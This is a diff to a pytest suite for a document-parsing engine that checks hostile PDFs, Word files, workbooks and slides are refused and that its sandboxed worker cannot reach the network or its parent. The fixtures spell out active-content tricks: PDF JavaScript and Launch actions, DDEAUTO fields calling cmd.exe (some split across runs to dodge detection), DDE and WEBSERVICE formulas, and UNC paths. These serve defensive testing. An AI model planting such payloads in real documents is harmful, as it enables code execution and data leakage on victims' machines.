@@ -16,15 +16,16 @@ from dataclasses import replace
 from importlib import resources
 from pathlib import Path
 
+import openpyxl
 import pytest
 from pypdf import PdfReader, PdfWriter
-from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
 
 from dingmi.base.errors import Invalid, Unavailable
 from dingmi.engines import documents
 from dingmi.engines.documents import child, rendering
 from dingmi.engines.documents.limits import KINDS
-from tests.engines import office
+from tests.engines import hostile, office, packages
 
 PDF = rendering.render_text_pdf("供水应急调度预案正文")
 OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
@@ -104,7 +105,147 @@ def launch(writer):
     writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
 
 
+def pdf_with(inner: bytes, *objects: bytes, page: bytes = b"") -> bytes:
+    """A PDF whose catalog or page holds something; further objects are numbered from 5."""
+    catalog, drawn = (
+        hostile.CATALOG.replace(b">>", inner + b">>"),
+        hostile.PAGE.replace(b"/Contents", page + b"/Contents"),
+    )
+    return hostile.pdf(catalog, hostile.PAGES, drawn, hostile.stream(b""), *objects)
+
+
+SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
+PROGRAM = b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>"
+ACTIVE_PDF = {
+    "script after another action": pdf_with(
+        b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(http://a/)>>" + SCRIPT + b"]>>"
+    ),
+    "script at a field above the one that is shown": pdf_with(
+        b"/AcroForm<</Fields[5 0 R]>>", b"<</T(a)/Kids[6 0 R]/AA<</K 7 0 R>>>>", b"<</Parent 5 0 R>>", SCRIPT
+    ),
+    "form of its own language": pdf_with(
+        b"/AcroForm<</Fields[]/XFA 5 0 R>>", hostile.stream(b"<xdp><script>x</script></xdp>")
+    ),
+    "rendition": pdf_with(
+        b"", page=b"/Annots[<</Subtype/Widget/Rect[0 0 9 9]/A<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>>>]"
+    ),
+    "program at a bookmark": pdf_with(
+        b"/Outlines 5 0 R", b"<</First 6 0 R/Last 6 0 R>>", b"<</Title(a)/Parent 5 0 R/A<</S/Launch/F(cmd.exe)>>>>"
+    ),
+    "program that belongs to the document": pdf_with(
+        b"/AF[5 0 R]", PROGRAM, hostile.stream(b"MZ", b"/Type/EmbeddedFile")
+    ),
+    "page of a computer far away": pdf_with(
+        b"", page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(\\\\\\\\10.0.0.1\\\\a\\\\b.pdf)/D[0/Fit]>>>>]"
+    ),
+    "name of an action in another object": pdf_with(
+        b"/OpenAction<</S 5 0 R/JS 6 0 R>>", b"/JavaScript", b"(app.alert\\(1\\))"
+    ),
+    "name of an action spelt out": pdf_with(b"/OpenAction<</S/#4aavaScript/#4a#53(app.alert\\(1\\))>>"),
+    "script that nothing leads to": pdf_with(b"", SCRIPT),
+}
+BEGIN, SEPARATE, END = (f"<w:r><w:fldChar w:fldCharType='{turn}'/></w:r>" for turn in ("begin", "separate", "end"))
+
+
+def instruction(*pieces: str) -> str:
+    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+
+
+def field(*pieces: str) -> bytes:
+    """A docx with a field whose code is spread over runs."""
+    return with_document(
+        office.root(
+            "document", f"<w:body><w:p>{BEGIN}{instruction(*pieces)}{SEPARATE}{END}</w:p>{office.p('正文')}</w:body>"
+        )
+    )
+
+
+def simple_field(code: str) -> bytes:
+    inner = f"<w:p><w:fldSimple w:instr='{code}'><w:r><w:t>正文</w:t></w:r></w:fldSimple></w:p>"
+    return with_document(office.root("document", f"<w:body>{inner}</w:body>"))
+
+
+def made_field() -> bytes:
+    """A field whose name another field makes up."""
+    inner = f"{BEGIN}{instruction('QUOTE 68 68 69')}{SEPARATE}<w:r><w:t>DDE</w:t></w:r>{END}"
+    whole = f"<w:p>{BEGIN}{inner}{instruction(' c:/a.exe b')}{END}</w:p>"
+    return with_document(office.root("document", f"<w:body>{whole}{office.p('正文')}</w:body>"))
+
+
+def settings(inner: str = "", *far: tuple[str, str, str]) -> bytes:
+    """A docx with settings, and relations of theirs that leave the package."""
+    return with_part(
+        **{
+            "word/_rels/document.xml.rels": office.rels(("s", "settings", "settings.xml")),
+            "word/settings.xml": office.root("settings", inner),
+            "word/_rels/settings.xml.rels": office.rels(external=far),
+        }
+    )
+
+
+def embedded(source: str, workbook: bytes) -> bytes:
+    """A docx with a chart and a workbook that ``source`` relates to."""
+    folder, _, name = source.rpartition("/")
+    return with_part(
+        **{
+            "word/charts/chart1.xml": "<c:chartSpace xmlns:c='urn:c'/>",
+            "word/embeddings/Book1.xlsx": workbook,
+            f"{folder}/_rels/{name}.rels": office.rels(("e", "package", "/word/embeddings/Book1.xlsx")),
+        }
+    )
+
+
+def formula(code: str) -> bytes:
+    """A workbook with one formula."""
+    made = openpyxl.Workbook()
+    made.active["A1"], made.active["B1"] = "供水", f"={code}"
+    out = io.BytesIO()
+    made.save(out)
+    return out.getvalue()
+
+
+def clicked(action: str) -> bytes:
+    """A presentation that does something when its title is touched."""
+    with zipfile.ZipFile(io.BytesIO(packages.presentation("供水"))) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    slide = next(name for name in parts if name.startswith("ppt/slides/slide"))
+    link = f"<a:hlinkMouseOver xmlns:a='http://schemas.openxmlformats.org/drawingml/2006/main' action='{action}'/>"
+    parts[slide] = parts[slide].replace(b"</p:sld>", link.encode() + b"</p:sld>")
+    return office.package(parts)
+
+
+BODY = "word/document.xml"
+ACTIVE_OFFICE = {
+    "field that starts a program": (field('DDEAUTO c:/cmd.exe "/k calc"'), "a.docx", "file.external_field"),
+    "field spread over runs": (field(" D", "DEAU", "TO c:/cmd.exe"), "a.docx", "file.external_field"),
+    "field in one piece": (simple_field(" dde cmd a"), "a.docx", "file.external_field"),
+    "field that another field makes up": (made_field(), "a.docx", "file.external_field"),
+    "picture by a field": (field('INCLUDEPICTURE "http://a/b.png" \\d'), "a.docx", "file.external_field"),
+    "letters in series": (settings("", ("m", "mailMergeSource", "file:///c:/a.mdb")), "a.docx", "file.external_content"),
+    "letters in series by themselves": (
+        settings("<w:mailMerge><w:connectString w:val='Provider=x'/></w:mailMerge>"), "a.docx", "file.external_content"
+    ),
+    "relation that nobody knows": (external("somethingNew"), "a.docx", "file.external_content"),
+    "relations in capital letters": (
+        with_part(**{"word/_rels/DOCUMENT.XML.RELS": office.rels(external=(("x", "image", "http://a/b.png"),))}),
+        "a.docx",
+        "file.external_content",
+    ),
+    "workbook as an object": (embedded(BODY, packages.workbook("一")), "a.docx", "file.embedded_object"),
+    "chart with a program": (embedded("word/charts/chart1.xml", b"MZ"), "a.docx", "file.embedded_object"),
+    "chart with a formula that fetches": (
+        embedded("word/charts/chart1.xml", formula("cmd|'/C calc'!A0")), "a.docx", "file.external_content"
+    ),
+    "formula that starts a program": (formula("A1+cmd|'/C calc'!A0"), "a.xlsx", "file.external_content"),
+    "formula that asks the web": (formula('_xlfn.WEBSERVICE("http://a/"&A1)'), "a.xlsx", "file.external_content"),
+    "formula of another file": (formula("'\\\\10.0.0.1\\a\\[b.xlsx]c'!A1"), "a.xlsx", "file.external_content"),
+    "program at a touch": (clicked("ppaction://program"), "a.pptx", "file.active_content"),
+}  # fmt: skip
+
+
 CASES = {
+    **{f"pdf: {name}": (data, "a.pdf", "file.active_content") for name, data in ACTIVE_PDF.items()},
+    **ACTIVE_OFFICE,
     "empty": (b"", "a.docx", "file.empty"),
     "exe as docx": (b"MZ" + bytes(500), "a.docx", "file.mislabelled"),
     "docx as pdf": (office.simple("一"), "a.pdf", "file.mislabelled"),
@@ -165,6 +306,40 @@ def test_hostile_file_gets_its_own_refusal_quickly(case):
         documents.extract(data, name)
     assert caught.value.code == code
     assert time.perf_counter() - began < 25
+
+
+@pytest.mark.parametrize(
+    "data, name",
+    [
+        (embedded("word/charts/chart1.xml", packages.workbook("一")), "a.docx"),
+        (field("HYPERLINK ", '"http://a/dde"'), "a.docx"),
+        (field("PAGE \\* MERGEFORMAT"), "a.docx"),
+        (formula('IF(A1="a|b",HYPERLINK("http://a/"),SUM(\'Sheet\'!A1:A2))'), "a.xlsx"),
+        (clicked("ppaction://hlinkshowjump?jump=nextslide"), "a.pptx"),
+    ],
+)
+def test_links_and_the_numbers_of_a_chart_are_no_danger(data, name):
+    assert documents.extract(data, name).text
+
+
+def test_a_pdf_with_links_bookmarks_and_fields_is_read():
+    def linked(writer):
+        page = writer.pages[0]
+        links = [
+            {"/S": "/URI", "/URI": "http://a/"},
+            {"/S": "/GoTo", "/D": "/one"},
+            {"/S": "/Named", "/N": "/NextPage"},
+        ]
+        writer.add_outline_item("一", 0)
+        notes = ArrayObject()
+        for link in links:
+            values = {k: NameObject(v) if v[0] == "/" else TextStringObject(v) for k, v in link.items()}
+            action = DictionaryObject({NameObject(k): v for k, v in values.items()})
+            notes.append(DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action}))
+        page[NameObject("/Annots")] = notes
+        writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject()})
+
+    assert "供水应急" in documents.extract(changed_pdf(linked), "a.pdf").text
 
 
 def huge_page_pdf() -> bytes:
@@ -284,21 +459,54 @@ def test_worker_sees_no_secrets_of_its_parent(monkeypatch):
     assert all(file == "/dev/null" or file.startswith("socket:") for file in open_files)
 
 
-def test_a_child_with_its_limits_on_opens_no_connection_and_goes_on():
-    asking = (
-        "import json, socket, sys; from dataclasses import asdict\n"
-        "from dingmi.engines.documents import limits, worker\n"
-        "ready = socket.socket()\n"
-        "worker._limit({'limits': asdict(limits.DEFAULT)})\n"
-        "def refused(act, *given):\n"
-        "    try: act(*given)\n"
-        "    except PermissionError: return True\n"
-        "told = [refused(socket.socket, kind) for kind in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX)]\n"
-        "told += [refused(ready.connect, ('127.0.0.1', 9)), refused(ready.bind, ('127.0.0.1', 0)), open(sys.executable, 'rb').read(4) == b'\\x7fELF']\n"
-        "print(json.dumps(told))"
-    )
-    told = subprocess.run([sys.executable, "-c", asking], capture_output=True, text=True, timeout=120)
-    assert told.stdout.strip() == str([True] * 6).lower(), told.stderr
+CONFINED = """
+import ctypes, json, os, socket, sys
+from dataclasses import asdict
+from pathlib import Path
+from dingmi.engines.documents import confine, limits, worker
+
+ready, folder, libc = socket.socket(), Path(sys.argv[1]), ctypes.CDLL(None, use_errno=True)
+worker._limit({"limits": asdict(limits.DEFAULT), "arguments": {}}, folder)
+
+
+def refused(act, *given):
+    try:
+        act(*given)
+    except PermissionError:
+        return True
+    return False
+
+
+def fails(name, *given):
+    return getattr(libc, name)(*given) == -1 and ctypes.get_errno() == 1
+
+
+told = {f"socket {kind}": refused(socket.socket, kind) for kind in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX)}
+told["connect"] = refused(ready.connect, ("127.0.0.1", 9))
+told["bind"] = refused(ready.bind, ("127.0.0.1", 0))
+told["start"] = refused(os.fork) and refused(os.execv, sys.executable, ["x"])
+told["look into its parent"] = fails("ptrace", 16, os.getppid(), 0, 0)
+told["signal"] = not confine.HELD["files"] or refused(os.kill, os.getppid(), 0)
+told["read"] = not confine.HELD["files"] or (refused(open, folder.parent / "key") and refused(os.listdir, folder.parent))
+told["write"] = not confine.HELD["files"] or refused(open, folder.parent / "new", "w")
+told["work"] = (folder / "answer").write_bytes(b"1") == 1 and (folder / "answer").read_bytes() == b"1"
+told["load"] = __import__("colorsys") is not None and open("/dev/null").read() == ""
+print(json.dumps([name for name, holds in told.items() if not holds]))
+"""
+
+
+def test_a_child_with_its_limits_on_reaches_nothing_but_its_work(tmp_path):
+    (tmp_path / "key").write_text("s3cret")
+    (tmp_path / "job").mkdir()
+    asked = [sys.executable, "-c", CONFINED, str(tmp_path / "job")]
+    told = subprocess.run(asked, capture_output=True, text=True, timeout=120)
+    assert told.stdout.strip() == "[]", (told.stdout, told.stderr)
+
+
+def test_what_the_kernel_cannot_keep_from_a_parser_is_said(monkeypatch):
+    assert set(documents.unconfined()) <= {"files"}
+    monkeypatch.setattr(child, "run", lambda *_: ({"network": False, "files": True}, b""))
+    assert documents.unconfined() == ("network",)
 
 
 def test_parsers_end_with_the_process_that_asked_for_them():
